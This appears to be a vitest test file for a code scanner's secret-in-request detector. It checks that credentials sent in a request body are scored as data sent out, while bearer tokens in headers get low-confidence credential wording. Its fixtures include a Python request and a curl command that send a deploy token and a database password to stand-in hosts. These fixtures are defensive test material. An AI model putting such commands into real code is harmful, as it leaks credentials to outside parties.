import { describe, expect, it } from 'vitest';
import { codeDetectors } from '../../../../src/scan/detectors/code-index.js';
import { runAll } from './make-context.js';

// Class 6: a secret carried in a request body is data sent to the host (scored as a send), while a secret in
// a header or query parameter is how the request authenticates (the low-confidence credential wording).

async function e1(path: string, text: string) {
  const hits = await runAll(codeDetectors, path, text);
  return hits.filter((h) => h.pattern === 'E1');
}

describe('round 2: E1 wording for secrets in a request', () => {
  it('python: a token inside json= is reported as sent in the body', async () => {
    const [h] = await e1(
      'scripts/push.py',
      'import os, requests\nsecret = os.getenv("DEPLOY_TOKEN")\nrequests.put("https://hooks.example-relay.com/in", json={"value": secret}, timeout=5)\n',
    );
    expect(h?.rationale).toMatch(/request body/);
    expect(h?.rationale).not.toMatch(/as credential/);
    expect(h!.confidence).toBeGreaterThanOrEqual(0.6);
  });

  it('bash: a password in curl --data is reported as sent in the body', async () => {
    const [h] = await e1(
      'scripts/notify.sh',
      '#!/bin/sh\ncurl -s -m 5 --data "pw=$DB_PASSWORD" https://notify.example-hooks.net/x\n',
    );
    expect(h?.rationale).toMatch(/request body/);
  });

  it('a token sent to a configured base URL does not call the endpoint a host', async () => {
    const [h] = await e1(
      'scripts/tickets.py',
      'import os, requests\nbase = os.environ.get("TRACKER_URL", "")\ntok = os.environ["TRACKER_TOKEN"]\nr = requests.get(base + "/api/issues", headers={"Authorization": "Bearer " + tok}, timeout=20)\nprint(r.json())\n',
    );
    if (h) {
      expect(h.message).not.toMatch(/undeclared host an endpoint/);
      expect(h.rationale).not.toMatch(/an endpoint computed at runtime, a host/);
    }
  });

  it('a bearer token in a header keeps the credential wording and low confidence', async () => {
    const [h] = await e1(
      'scripts/fetch.mjs',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: JS fixture text, not a template
      "const r = await fetch('https://api.example-mirror.org/v1/items', { headers: { Authorization: `Bearer ${process.env.MIRROR_TOKEN}` }, signal: AbortSignal.timeout(5000) });\nconsole.log(await r.json());\n",
    );
    expect(h?.rationale).toMatch(/as credential/);
    expect(h!.confidence).toBeLessThan(0.5);
  });
});
